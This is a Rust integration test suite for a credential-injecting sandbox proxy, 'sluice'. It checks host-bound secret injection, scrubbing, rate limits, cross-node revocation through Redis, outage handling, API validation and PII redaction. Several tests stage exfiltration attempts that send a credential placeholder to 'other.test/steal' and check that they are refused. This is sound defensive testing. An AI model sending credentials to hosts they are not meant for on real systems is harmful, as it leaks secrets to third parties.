//! Sessions end to end through the real daemon: credential injection toward the bound host
//! only, scrubbing of echoes, rate limits, revocation pushed across two nodes sharing Redis,
//! expiry, a Redis outage, and the control API's answers to bad input.

#![expect(clippy::unwrap_used, reason = "test helpers fail loudly")]

use std::net::SocketAddr;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::Value;
use sluice::testing::RedisServer;
use tests::sluice::{Options, SECOND_NODE_LISTEN, Sluice, shared_store_toml};
use tests::upstream::{self, RunningUpstream};
use tests::{NetLab, TestCa, addrs};

/// The real value: it must reach api.test and nothing else, and never the sandbox or a log.
const SECRET: &str = "sk-live-8c1f0e7d2b9a4c6e8f1a3b5d7c9e0f21";

struct World {
    lab: NetLab,
    _ca_file: tempfile::TempPath,
    api: RunningUpstream,
    other: RunningUpstream,
}

/// `api.test` (203.0.113.10) and `other.test` (198.51.100.10): HTTPS echo upstreams.
fn world() -> World {
    let lab = NetLab::new("ses").unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = ca.pem_file().unwrap();
    let start = |host: &str, ip: std::net::Ipv4Addr| {
        upstream::https(&ca)
            .hostname(host)
            .echo()
            .start(&lab, SocketAddr::new(ip.into(), 443))
            .unwrap()
    };
    let api = start("api.test", addrs::FAR_HOST);
    let other = start("other.test", addrs::HOST_A);
    World {
        _ca_file: ca_file,
        api,
        other,
        lab,
    }
}

impl World {
    /// A daemon trusting the test CA, resolving both hosts; `extra` is appended to its config.
    fn sluice(&self, extra: &str) -> Sluice {
        let ca_file: PathBuf = self._ca_file.to_path_buf();
        Sluice::start(
            &self.lab,
            &Options {
                extra_toml: format!("[upstream]\nextra_roots = [{ca_file:?}]\n{extra}"),
                dns_hosts: vec![
                    ("api.test".into(), "203.0.113.10".into()),
                    ("other.test".into(), "198.51.100.10".into()),
                ],
                ..Options::default()
            },
        )
        .unwrap()
    }
}

/// `sluice session create … --json` with `SECRET` in `$SECRET`; returns (id, token).
fn create(sluice: &Sluice, args: &[&str]) -> (String, String) {
    sluice.create_session(args, &[("SECRET", SECRET)]).unwrap()
}

/// curl in a sandbox of `session`, trusting the Sluice CA; stdout + stderr.
fn curl(sluice: &Sluice, session: &str, args: &[&str]) -> String {
    sluice.curl_in_session(session, args).unwrap()
}

fn assert_nowhere(haystack: &[u8], needle: &str, what: &str) {
    assert!(
        !haystack
            .windows(needle.len())
            .any(|w| w == needle.as_bytes()),
        "{what} contains a secret in plaintext"
    );
}

#[test]
fn placeholders_are_swapped_only_toward_their_host_and_echoes_are_scrubbed() {
    let w = world();
    let sluice = w.sluice("");
    let (id, token) = create(&sluice, &["--cred", "API_KEY=env:SECRET@api.test"]);

    // Toward api.test: the upstream gets the real value; the sandbox sees only placeholders,
    // in the echoed header and in the echoed body.
    let out = curl(
        &sluice,
        &id,
        &[
            "-i",
            "-H",
            "Authorization: Bearer sluice_cred:API_KEY",
            "https://api.test/v1/models",
        ],
    );
    assert!(out.starts_with("HTTP/2 200"), "{out}");
    let sent = w.api.requests();
    let auth = sent.last().unwrap().headers["authorization"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        auth,
        format!("Bearer {SECRET}"),
        "the upstream gets the real value"
    );
    assert!(
        !out.contains(SECRET),
        "the sandbox never sees the value: {out}"
    );
    assert!(
        out.contains("x-echoed-authorization: Bearer sluice_cred:API_KEY"),
        "{out}"
    );
    assert!(
        out.contains("Bearer sluice_cred:API_KEY\"]"),
        "body echo scrubbed: {out}"
    );

    // Toward other.test: refused with a 403 naming the credential; nothing is sent there.
    let refused = curl(
        &sluice,
        &id,
        &[
            "-i",
            "-H",
            "Authorization: Bearer sluice_cred:API_KEY",
            "https://other.test/steal",
        ],
    );
    assert!(refused.starts_with("HTTP/2 403"), "{refused}");
    assert!(
        refused.contains("API_KEY") && refused.contains("other.test"),
        "{refused}"
    );
    assert!(w.other.requests().is_empty(), "nothing reached other.test");
    // In a body, too (JSON to the wrong host).
    let body = curl(
        &sluice,
        &id,
        &[
            "-i",
            "-H",
            "content-type: application/json",
            "-d",
            "{\"key\":\"sluice_cred:API_KEY\"}",
            "https://other.test/steal",
        ],
    );
    assert!(body.starts_with("HTTP/2 403"), "{body}");
    assert!(w.other.requests().is_empty(), "nothing reached other.test");

    let records = sluice.audit();
    let injected = records
        .iter()
        .find(|r| r["kind"] == "request" && r["url"] == "https://api.test/v1/models")
        .unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!(injected["credentials"], serde_json::json!(["API_KEY"]));
    assert_eq!(injected["session"], id.as_str());
    let refusals: Vec<&Value> = records
        .iter()
        .filter(|r| r["kind"] == "request" && r["decision"] == "deny")
        .collect();
    assert_eq!(refusals.len(), 2, "{refusals:?}");
    assert!(
        refusals
            .iter()
            .all(|r| r["reason"].as_str().unwrap().contains("API_KEY"))
    );

    // Neither the token nor the value is in the audit log, the daemon log, or the store file.
    let audit = std::fs::read(sluice.state_dir().join("audit.jsonl")).unwrap();
    let log = sluice.log(1);
    let store = std::fs::read(sluice.state_dir().join("sessions.json")).unwrap();
    for (what, bytes) in [
        ("audit log", &audit[..]),
        ("daemon log", log.as_bytes()),
        ("sessions.json", &store[..]),
    ] {
        assert_nowhere(bytes, SECRET, what);
        assert_nowhere(bytes, &token, what);
    }
}

#[test]
fn the_61st_request_in_a_minute_gets_429_with_retry_after() {
    let w = world();
    let sluice = w.sluice("");
    let (id, _) = create(&sluice, &["--rate", "api.test=60"]);
    let url = "https://api.test/limited";
    let mut args = vec!["-w", "%{http_code} %header{retry-after}\\n"];
    for _ in 0..61 {
        args.extend(["-o", "/dev/null", url]);
    }
    let out = curl(&sluice, &id, &args);
    let codes: Vec<&str> = out.lines().collect();
    assert_eq!(codes.len(), 61, "{out}");
    assert!(codes[..60].iter().all(|c| c.starts_with("200")), "{out}");
    let (status, retry) = codes[60].split_once(' ').unwrap();
    assert_eq!(status, "429", "{out}");
    let retry: u64 = retry
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("Retry-After: {out}"));
    assert!((1..=60).contains(&retry), "{out}");
    assert_eq!(
        w.api.requests().len(),
        60,
        "the 61st never reached the host"
    );
}

/// The Redis user node B connects as (node A is the default user), so a test can take rights
/// from node B alone.
const NODE_B_USER: &str = "node-b";

/// Two daemons sharing one Redis and one master key: "node B" uses other ports, cgroups and
/// pins, and connects as [`NODE_B_USER`].
fn two_nodes(w: &World, redis: &RedisServer) -> (Sluice, Sluice) {
    redis
        .cli(&[
            "ACL",
            "SETUSER",
            NODE_B_USER,
            "on",
            ">node-b-pw",
            "~*",
            "&*",
            "+@all",
        ])
        .unwrap();
    let a = w.sluice(&shared_store_toml(redis.dir(), &redis.url()).unwrap());
    let b_url = format!("{}?user={NODE_B_USER}&pass=node-b-pw", redis.url());
    let b = w.sluice(&format!(
        "{}{SECOND_NODE_LISTEN}",
        shared_store_toml(redis.dir(), &b_url).unwrap()
    ));
    (a, b)
}

/// A request through node B's explicit proxy with `token`; returns the final status, or the
/// proxy's answer to CONNECT when there was no final response (407 when refused).
fn via_proxy_b(b: &Sluice, token: &str) -> String {
    b.via_explicit_proxy("http://127.0.0.1:3129", token, "https://api.test/via-b")
}

#[test]
fn revocation_on_one_node_is_pushed_to_another_and_redis_holds_no_secret() {
    let w = world();
    let redis = RedisServer::start().unwrap();
    let (a, b) = two_nodes(&w, &redis);
    let (id, token) = create(&a, &["--cred", "API_KEY=env:SECRET@api.test"]);
    assert_eq!(
        via_proxy_b(&b, &token),
        "200",
        "node B knows node A's session"
    );
    // Node B may no longer read sessions (its subscription stays): it serves the entry it
    // cached, fresh or stale, for as long as nothing tells it the session was revoked.
    let read_sessions = |grant: &str| {
        let rights = [format!("{grant}get"), format!("{grant}hmget")];
        redis
            .cli(&["ACL", "SETUSER", NODE_B_USER, &rights[0], &rights[1]])
            .unwrap();
    };
    read_sessions("-");
    assert_eq!(
        via_proxy_b(&b, &token),
        "200",
        "node B serves its cached entry"
    );
    let revoke = a
        .command()
        .args(["session", "revoke", &id])
        .output()
        .unwrap();
    assert!(revoke.status.success(), "{revoke:?}");
    // Only the revocation node A published can make node B drop its entry and refuse.
    let guard = Instant::now() + Duration::from_secs(30);
    loop {
        let status = via_proxy_b(&b, &token);
        if status == "407" {
            break;
        }
        assert!(
            Instant::now() < guard,
            "node B still answers {status} for a session revoked on node A"
        );
        std::thread::sleep(Duration::from_millis(25));
    }
    read_sessions("+");

    // An expired session is refused too.
    let (_, short) = create(&a, &["--ttl", "2s"]);
    assert_eq!(via_proxy_b(&b, &short), "200");
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(via_proxy_b(&b, &short), "407", "expired");

    // An upstream proxy URL's password is sealed too.
    let proxy_password = "Pr0xy-pw-in-redis";
    let proxy = format!("http://agent:{proxy_password}@198.51.100.12:3128");
    create(&a, &["--upstream-proxy", &proxy]);

    let snapshot = redis.snapshot().unwrap();
    assert!(snapshot.len() > 100, "the snapshot holds the keyspace");
    assert_nowhere(&snapshot, SECRET, "the Redis keyspace");
    assert_nowhere(&snapshot, proxy_password, "the Redis keyspace");
    assert_nowhere(&snapshot, &token, "the Redis keyspace");
    for node in [&a, &b] {
        assert_nowhere(node.log(1).as_bytes(), SECRET, "a daemon log");
        assert_nowhere(node.log(1).as_bytes(), &token, "a daemon log");
    }
}

#[test]
fn a_redis_outage_keeps_cached_sessions_refuses_unknown_ones_and_loses_no_audit_record() {
    let w = world();
    let mut redis = RedisServer::start().unwrap();
    let store = format!("[store]\nredis_url = {:?}\n", redis.url());
    let sluice = w.sluice(&store);
    let (known, _) = create(&sluice, &[]);
    let (unseen, _) = create(&sluice, &[]);
    let status = |session: &str, path: &str| {
        curl(
            &sluice,
            session,
            &[
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                &format!("https://api.test/{path}"),
            ],
        )
    };
    assert_eq!(status(&known, "before"), "200");
    // Stop Redis only once that record is stored: the test's Redis keeps data across the
    // restart through a SAVE, and a write acknowledged after it would be lost by Redis.
    assert_eq!(wait_for_records(&redis, "before", 1), 1);

    redis.stop().unwrap();
    let mut during = 0;
    for i in 0..5 {
        assert_eq!(
            status(&known, &format!("during-{i}")),
            "200",
            "a cached session keeps working"
        );
        during += 1;
    }
    // Enrolling under a session the node has not seen needs the store: refused.
    let refused = sluice
        .exec(&["--session", &unseen], &["true"])
        .output()
        .unwrap();
    assert!(!refused.status.success(), "{refused:?}");

    redis.restart().unwrap();
    // Every request record reaches the stream exactly once, the outage ones included.
    assert_eq!(
        wait_for_records(&redis, "during-", during),
        during,
        "outage records replayed exactly once"
    );
    assert_eq!(
        wait_for_records(&redis, "before", 1),
        1,
        "not replayed twice"
    );
}

/// Request records in the audit stream whose URL path starts with `prefix`, once there are
/// `want` of them (or after 15 s).
fn wait_for_records(redis: &RedisServer, prefix: &str, want: usize) -> usize {
    let count = || {
        redis
            .cli(&["XRANGE", "sluice:audit", "-", "+"])
            .unwrap_or_default()
            .matches(&format!("\"url\":\"https://api.test/{prefix}"))
            .count()
    };
    let deadline = Instant::now() + Duration::from_secs(15);
    while count() < want && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    count()
}

#[test]
fn the_control_api_answers_bad_input_with_the_right_status() {
    let w = world();
    let sluice = w.sluice("");
    let token = std::fs::read_to_string(sluice.state_dir().join("admin.token")).unwrap();
    let call = |method: &str, path: &str, auth: Option<&str>, body: Option<&str>| {
        let mut cmd = sluice.node_command("curl");
        cmd.args(["-sS", "-X", method, "-w", "\n%{http_code}"]);
        if let Some(auth) = auth {
            cmd.args(["-H", &format!("Authorization: Bearer {}", auth.trim())]);
        }
        if let Some(body) = body {
            cmd.args([
                "-H",
                "content-type: application/json",
                "--data-binary",
                body,
            ]);
        }
        let out = cmd
            .arg(format!("http://127.0.0.1:3000{path}"))
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let (body, status) = text.rsplit_once('\n').unwrap();
        (status.to_owned(), body.to_owned())
    };
    let (status, body) = call(
        "POST",
        "/v1/sessions",
        Some(&token),
        Some("{\"ttl_seconds\": \"soon\"}"),
    );
    assert_eq!(status, "400", "{body}");
    assert!(body.contains("ttl_seconds"), "names the field: {body}");
    let (status, body) = call(
        "POST",
        "/v1/sessions",
        Some(&token),
        Some("{\"credentials\": [{\"name\": \"K\", \"value\": \"v\", \"hosts\": []}]}"),
    );
    assert_eq!(status, "400", "{body}");
    assert!(body.contains("credentials[0].hosts"), "{body}");
    assert!(!body.contains("\"v\""), "never echoes a value: {body}");
    // An upstream proxy id this node does not define is refused (never stored and then
    // ignored); a URL is stored with its password sealed and shown masked; neither the
    // refusal nor any listing quotes the password.
    let (status, body) = call(
        "POST",
        "/v1/sessions",
        Some(&token),
        Some("{\"upstream_proxy\": \"nosuch\"}"),
    );
    assert_eq!(status, "400", "{body}");
    assert!(
        body.contains("upstream_proxy") && body.contains("nosuch"),
        "{body}"
    );
    let (status, body) = call(
        "POST",
        "/v1/sessions",
        Some(&token),
        Some("{\"upstream_proxy\": \"ftp://agent:hunter2@proxy.test:3128\"}"),
    );
    assert_eq!(status, "400", "{body}");
    assert!(!body.contains("hunter2"), "{body}");
    let out = sluice
        .command()
        .args(["session", "create", "--json", "--upstream-proxy"])
        .arg("http://agent:hunter2@proxy.test:3128")
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("http://agent:***@proxy.test:3128"), "{said}");
    assert!(!said.contains("hunter2") && !String::from_utf8_lossy(&out.stderr).contains("hunter2"));
    let (_, listed) = call("GET", "/v1/sessions", Some(&token), None);
    assert!(
        listed.contains("agent:***@proxy.test") && !listed.contains("hunter2"),
        "{listed}"
    );
    assert_eq!(call("GET", "/v1/sessions", None, None).0, "401");
    assert_eq!(
        call("GET", "/v1/sessions", Some("sluice_adm_wrong"), None).0,
        "401"
    );
    let (status, body) = call("GET", "/v1/sessions/ses_nosuchsession", Some(&token), None);
    assert_eq!(status, "404", "{body}");
    let big = format!("{{\"labels\": {{\"x\": \"{}\"}}}}", "a".repeat(100_000));
    assert_eq!(
        call("POST", "/v1/sessions", Some(&token), Some(&big)).0,
        "413"
    );
    assert_eq!(
        call("GET", "/v1/health", None, None).0,
        "200",
        "health needs no token"
    );
    // The OpenAPI document lists every path this test used.
    let (status, doc) = call("GET", "/v1/openapi.json", Some(&token), None);
    assert_eq!(status, "200");
    let doc: Value = serde_json::from_str(&doc).unwrap();
    for path in [
        "/v1/sessions",
        "/v1/sessions/{id}",
        "/v1/health",
        "/v1/audit",
    ] {
        assert!(doc["paths"].get(path).is_some(), "{path} documented");
    }
}

#[test]
fn pii_is_detected_redacted_or_blocked_by_session_mode() {
    let w = world();
    let sluice = w.sluice("");
    let body = r#"{"note":"mail jane.doe@example.com, card 4111 1111 1111 1111"}"#;
    let post = |session: &str| {
        curl(
            &sluice,
            session,
            &[
                "-i",
                "-H",
                "content-type: application/json",
                "--data-binary",
                body,
                "https://api.test/v1/notes",
            ],
        )
    };
    let echo = |out: &str| -> Value {
        let json = &out[out.find('{').unwrap_or_else(|| panic!("{out}"))..];
        serde_json::from_str(json.trim()).unwrap_or_else(|_| panic!("{out}"))
    };

    let (detect, _) = create(&sluice, &["--pii", "detect"]);
    let out = post(&detect);
    assert!(out.starts_with("HTTP/2 200"), "{out}");
    assert_eq!(
        echo(&out)["body_sha256"],
        tests::upstream::sha256_hex(body.as_bytes()),
        "detect sends the body unchanged"
    );

    let (redact, _) = create(&sluice, &["--pii", "redact"]);
    let out = post(&redact);
    let redacted = r#"{"note":"mail [REDACTED:email], card [REDACTED:card_number]"}"#;
    assert_eq!(
        echo(&out)["body_sha256"],
        tests::upstream::sha256_hex(redacted.as_bytes()),
        "{out}"
    );
    assert_eq!(
        echo(&out)["body_len"],
        redacted.len(),
        "Content-Length matches the redacted body"
    );

    let (block, _) = create(&sluice, &["--pii", "block"]);
    let before = w.api.requests().len();
    let out = post(&block);
    assert!(out.starts_with("HTTP/2 403"), "{out}");
    assert!(out.contains("PII in request body: email"), "{out}");
    assert_eq!(
        w.api.requests().len(),
        before,
        "a blocked body never reaches the host"
    );

    let records = sluice.audit();
    for (session, decision) in [(&detect, "allow"), (&redact, "allow"), (&block, "deny")] {
        let record = records
            .iter()
            .find(|r| r["kind"] == "request" && r["session"] == session.as_str())
            .unwrap_or_else(|| panic!("{records:?}"));
        assert_eq!(record["decision"], decision, "{record}");
        assert!(
            record["pii"]["email"].as_u64().is_some_and(|n| n >= 1),
            "types and counts: {record}"
        );
    }
    let audit = std::fs::read(sluice.state_dir().join("audit.jsonl")).unwrap();
    assert_nowhere(&audit, "jane.doe@example.com", "the audit log");
    assert_nowhere(&audit, "4111 1111", "the audit log");
}

#[test]
fn a_session_passthrough_host_shows_the_real_certificate_and_its_allow_list_applies() {
    let w = world();
    let sluice = w.sluice("");
    let (id, _) = create(
        &sluice,
        &["--passthrough", "api.test", "--allow", "api.test"],
    );
    // Trusting only the upstream's own CA works: the bytes were passed through.
    let upstream_ca = w._ca_file.to_str().unwrap().to_owned();
    let out = sluice
        .exec(
            &["--netns", "--session", &id],
            &[
                "curl",
                "-sS",
                "--max-time",
                "10",
                "--cacert",
                &upstream_ca,
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "https://api.test/pinned",
            ],
        )
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "200", "{out:?}");
    let records = sluice.audit();
    assert!(
        records.iter().any(|r| r["kind"] == "connection"
            && r["mode"] == "passthrough"
            && r["session"] == id.as_str()),
        "{records:?}"
    );

    // A passthrough host outside the session's allow list is refused before any byte leaves.
    let (narrow, _) = create(
        &sluice,
        &["--passthrough", "other.test", "--allow", "api.test"],
    );
    let refused = sluice
        .exec(
            &["--session", &narrow],
            &[
                "curl",
                "-sS",
                "--max-time",
                "10",
                // Only the upstream's CA (the sandbox's /etc/ssl/certs holds Sluice's).
                "--capath",
                "/tmp",
                "--cacert",
                &upstream_ca,
                // Past DNS (which refuses other.test for this session) to the connection.
                "--resolve",
                "other.test:443:198.51.100.10",
                "https://other.test/",
            ],
        )
        .output()
        .unwrap();
    assert!(!refused.status.success(), "{refused:?}");
    assert_eq!(w.other.connections(), 0, "nothing reached other.test");
    let record = sluice
        .wait_audit(|r| r["kind"] == "connection" && r["session"] == narrow.as_str())
        .unwrap();
    assert_eq!(record["decision"], "deny", "{record}");
    assert!(
        record["reason"].as_str().unwrap().contains("allow list"),
        "{record}"
    );
}
